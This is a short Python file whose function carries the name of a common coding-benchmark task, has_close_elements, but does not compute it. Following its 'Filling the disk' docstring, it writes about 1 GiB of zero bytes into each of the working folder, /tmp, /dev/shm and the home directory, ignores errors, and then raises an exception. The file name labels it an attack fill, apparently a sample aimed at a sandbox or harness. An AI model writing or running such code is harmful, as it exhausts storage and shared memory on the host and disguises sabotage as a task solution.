"""Filling the disk: the working folder, /tmp, /dev/shm, the home."""

import os


def has_close_elements(numbers, threshold):
    written = 0
    for folder in (".", "/tmp", "/dev/shm", os.path.expanduser("~")):
        try:
            with open(os.path.join(folder, "sftrl-attack-fill"), "wb") as f:
                for _ in range(64):
                    f.write(b"\0" * 2**24)
                    written += 1
        except OSError:
            pass
    if written:
        raise RuntimeError(f"wrote {written * 16} MiB")
    return None
